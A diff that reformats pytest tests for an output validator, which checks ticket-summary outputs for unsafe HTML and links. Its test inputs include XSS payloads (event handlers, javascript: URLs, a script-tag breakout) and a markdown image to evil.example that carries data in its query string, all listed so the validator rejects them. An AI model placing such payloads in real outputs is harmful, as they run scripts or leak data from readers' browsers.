@@ -41,8 +41,8 @@ HOSTILE = [
     "<!-- a comment hides text -->",
     "<iframe src=//evil.example>",
     "<style>body{display:none}</style>",
-    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
-    "x\" onmouseover=\"alert(1)",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    'x" onmouseover="alert(1)',
     "' onfocus='alert(1)' autofocus='",
     "if a<b then c",  # `<b then c` is a tag to a browser
     "</textarea><script>alert(1)</script>",
@@ -90,8 +90,12 @@ def test_allowed_hosts_may_be_linked_but_images_never():
 
 
 def test_every_string_at_any_depth_is_checked_and_named():
-    output = {"summary": "fine", "action_items": ["ok", "<img src=x onerror=alert(1)>"],
-              "details": {"notes": [{"text": "javascript&#58;alert(1)"}]}, "<b>key</b>": "x"}
+    output = {
+        "summary": "fine",
+        "action_items": ["ok", "<img src=x onerror=alert(1)>"],
+        "details": {"notes": [{"text": "javascript&#58;alert(1)"}]},
+        "<b>key</b>": "x",
+    }
     found = dict(unsafe_content(output))
     assert set(found) == {"action_items[1]", "details.notes[0].text", "<b>key</b>"}
     assert "javascript: URL" in found["details.notes[0].text"]
@@ -102,8 +106,14 @@ def tickets():
     return load_workload("ticket_summaries")
 
 
-GOOD = {"ticket_id": "T-1", "summary": "The customer was charged twice.", "category": "billing",
-        "sentiment": "negative", "language": "en", "action_items": ["Refund the second charge"]}
+GOOD = {
+    "ticket_id": "T-1",
+    "summary": "The customer was charged twice.",
+    "category": "billing",
+    "sentiment": "negative",
+    "language": "en",
+    "action_items": ["Refund the second charge"],
+}
 
 
 @pytest.mark.parametrize("text", HOSTILE[:12])
@@ -113,8 +123,11 @@ def test_validation_rejects_unsafe_text_in_nested_fields(tickets, text):
 
 
 def test_the_gate_uses_the_same_check_over_nested_fields(tickets):
-    rows = [dict(GOOD), {**GOOD, "ticket_id": "T-2", "action_items": ["![x](https://evil.example/c?d=1)"]},
-            {**GOOD, "ticket_id": "T-3", "summary": "Done <svg/onload=alert(1)"}]
+    rows = [
+        dict(GOOD),
+        {**GOOD, "ticket_id": "T-2", "action_items": ["![x](https://evil.example/c?d=1)"]},
+        {**GOOD, "ticket_id": "T-3", "summary": "Done <svg/onload=alert(1)"},
+    ]
     frame = pd.DataFrame(rows, columns=["ticket_id", *tickets.spec.sink.columns])
     verdict = run_gate(tickets, frame, [True] * 3)
     failed = {c["column"]: c for c in verdict.failures()}
@@ -123,7 +136,9 @@ def test_the_gate_uses_the_same_check_over_nested_fields(tickets):
     assert run_gate(tickets, frame.iloc[:1], [True]).success
 
 
-@pytest.mark.parametrize("policy, ok, review", [("review", True, True), ("invalid", False, False), ("ignore", True, False)])
+@pytest.mark.parametrize(
+    "policy, ok, review", [("review", True, True), ("invalid", False, False), ("ignore", True, False)]
+)
 def test_an_output_naming_another_records_id_goes_to_review(tickets, policy, ok, review):
     rules = tickets.spec.validation.model_copy(update={"foreign_ids": policy})
     validator = OutputValidator(tickets.output_schema, rules, tickets.spec.source.id_regex())
